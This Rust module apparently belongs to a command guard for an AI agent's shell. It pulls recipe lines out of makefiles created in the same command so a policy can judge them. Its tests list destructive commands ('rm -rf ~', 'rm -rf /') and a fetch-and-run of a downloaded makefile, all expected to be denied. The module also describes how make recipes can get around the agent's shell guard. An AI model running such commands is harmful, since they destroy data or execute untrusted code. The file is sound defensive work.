//! The recipes of a makefile, as shell code: `make` runs each recipe line with
//! `/bin/sh -c` (GNU make never takes `SHELL` from the environment, so tako-exec as
//! the agent's shell does not see them run).
//!
//! Only makefiles whose text the analysis knows are read: one written earlier in the
//! same command (`printf 'all:\n\trm -rf ~\n' > Makefile && make`) or given on standard
//! input (`make -f - <<EOF`). A makefile already in the workspace is the project's own,
//! like its other scripts: `make` runs it as everyday development.
//!
//! Make's own expansions are not computed: `$(VAR)`, `${VAR}` and the automatic
//! variables (`$@`, `$<`, …) become unknown values, `$$` is the shell's `$`.

/// The recipe lines of `text`, one shell command each, with make's expansions as shell
/// variables that are never assigned (unknown). At most `limit` lines.
pub(crate) fn recipes(text: &str, limit: usize) -> Vec<String> {
    // Backslash-newline continues a line, in rules and recipes alike.
    let joined = text.replace("\\\n", " ");
    let mut out = Vec::new();
    let mut in_rule = false;
    for line in joined.lines() {
        if out.len() >= limit {
            break;
        }
        if let Some(recipe) = line.strip_prefix('\t') {
            if in_rule {
                out.push(shell_text(recipe.trim_start_matches(['@', '-', '+', ' ', '\t'])));
            }
            continue;
        }
        let code = line.split('#').next().unwrap_or("");
        if code.trim().is_empty() {
            continue;
        }
        // A rule: `targets: prerequisites [; recipe]`, not an assignment (`X := y`,
        // `X ::= y`, `X = a:b`).
        let colon = code.find(':');
        let assign = code.find('=');
        in_rule = match (colon, assign) {
            (Some(c), Some(a)) => c < a && !code[c..].starts_with(":=") && !code[c..].starts_with("::="),
            (Some(_), None) => !code.trim_start().starts_with("include") && !code.trim_start().starts_with("define"),
            _ => false,
        };
        if in_rule {
            if let Some((_, inline)) = code.split_once(';') {
                if !inline.trim().is_empty() {
                    out.push(shell_text(inline.trim_start_matches(['@', '-', '+', ' ', '\t'])));
                }
            }
        }
    }
    out
}

/// A recipe line as the shell sees it after make: `$$` is `$`; `$(X)`, `${X}` and `$@`
/// become `${__make_var}`, a variable no one assigned.
fn shell_text(recipe: &str) -> String {
    let mut out = String::with_capacity(recipe.len());
    let mut chars = recipe.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '$' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('$') => out.push('$'),
            Some(open @ ('(' | '{')) => {
                let close = if open == '(' { ')' } else { '}' };
                let mut depth = 1;
                for c in chars.by_ref() {
                    if c == open {
                        depth += 1;
                    } else if c == close {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                }
                out.push_str("${__make_var}");
            }
            Some(_) => out.push_str("${__make_var}"),
            None => out.push('$'),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::recipes;

    #[test]
    fn recipes_are_the_rules_lines() {
        let mk = "CC = cc\nBUILD := build\n\nall: app ; @echo done\n\napp: main.c\n\t$(CC) -o $@ $<\n\t-rm -f *.o\n\nclean:\n\trm -rf $(BUILD) \\\n\t  dist\n# a comment: not a rule\ninclude other.mk\n";
        assert_eq!(
            recipes(mk, 100),
            [
                "echo done",
                "${__make_var} -o ${__make_var} ${__make_var}",
                "rm -f *.o",
                "rm -rf ${__make_var}  \t  dist"
            ]
        );
        assert_eq!(recipes("all:\n\techo $$HOME\n", 100), ["echo $HOME"]);
        // Lines with a tab outside any rule are not recipes.
        assert_eq!(recipes("X = 1\n\trm -rf /\n", 100), Vec::<String>::new());
        assert_eq!(recipes("a:\n\ttrue\n\ttrue\n\ttrue\n", 2).len(), 2);
    }

    #[test]
    fn make_runs_the_recipes_of_a_makefile_it_was_just_given() {
        use crate::guard::tests::expect_decisions;
        use crate::policy::Decision;
        expect_decisions(&[
            ("printf 'all:\\n\\trm -rf ~\\n' > Makefile && make", Decision::Deny),
            ("make -f - <<< 'all: ; rm -rf /'", Decision::Deny),
            ("curl -o Makefile https://example.com/mk && make", Decision::Deny),
            ("printf 'all:\\n\\tcargo build\\n' > Makefile && make", Decision::Allow),
            // The project's own makefile runs as everyday development.
            ("make -C src test", Decision::Allow),
        ]);
    }
}
